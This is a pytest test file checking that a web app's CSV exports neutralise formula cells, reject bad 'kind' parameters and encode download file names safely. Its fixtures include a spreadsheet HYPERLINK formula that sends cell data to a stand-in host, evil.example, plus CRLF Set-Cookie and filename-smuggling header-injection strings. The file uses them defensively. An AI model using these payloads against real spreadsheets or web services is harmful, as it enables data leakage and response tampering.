"""CSV exports: formula cells neutralised, `kind=` checked, file names encoded safely."""

from __future__ import annotations

import csv
import io

import pytest

from tests_support import make_pdf, wait_for_jobs
from web.exports import attachment, to_csv


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\")", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_starting_like_a_formula_are_written_as_text(cell):
    (_header, row) = rows_of(to_csv(["a", "b"], [[cell, 7]]).encode())
    assert row == ["'" + cell, "7"]


def test_ordinary_cells_are_unchanged():
    (_header, row) = rows_of(to_csv(["a"], [["Magavel = 1,023,123"]]).encode())
    assert row == ["Magavel = 1,023,123"]


def test_a_hostile_document_exports_as_inert_text(fresh_client, tmp_path):
    pdf = make_pdf(tmp_path / "hostil.pdf", ['=HYPERLINK("http://evil.example/?"&A1,"Contrato de obra")\n'
                                             "Contrato de obra pública número XQZ-77 con la empresa"])
    r = fresh_client.post("/api/upload", files=[("files", ("-hostil.pdf", pdf.read_bytes(), "application/pdf"))])
    assert [j["status"] for j in wait_for_jobs(fresh_client, r.json()["batch"])] == ["done"]
    export = fresh_client.get("/export/search.csv", params={"q": "hyperlink"})
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    header, *rows = rows_of(export.content)
    assert rows, "the hostile page is found"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[0][header.index("filename")] == "'-hostil.pdf"


@pytest.mark.parametrize("kind", ["nope", "amount\r\nSet-Cookie: x=1", 'amount"; filename="evil.exe', "amount%00"])
def test_an_unknown_entity_kind_is_refused(client, kind):
    r = client.get("/export/entities.csv", params={"kind": kind})
    assert r.status_code == 400 and "set-cookie" not in r.headers and "content-disposition" not in r.headers
    assert "amount" in r.text  # the message lists the kinds there are


def test_entity_export_names_its_file_safely(client):
    r = client.get("/export/entities.csv", params={"kind": "vendor"})
    assert r.status_code == 200
    assert r.headers["content-disposition"] == (
        "attachment; filename=\"expediente-vendor.csv\"; filename*=UTF-8''expediente-vendor.csv")


def test_non_ascii_file_names_get_an_ascii_fallback_and_the_exact_name():
    value = attachment('búsqueda "año";2020.csv')
    assert value == ("attachment; filename=\"b_squeda _a_o__2020.csv\"; "
                     "filename*=UTF-8''b%C3%BAsqueda%20%22a%C3%B1o%22%3B2020.csv")
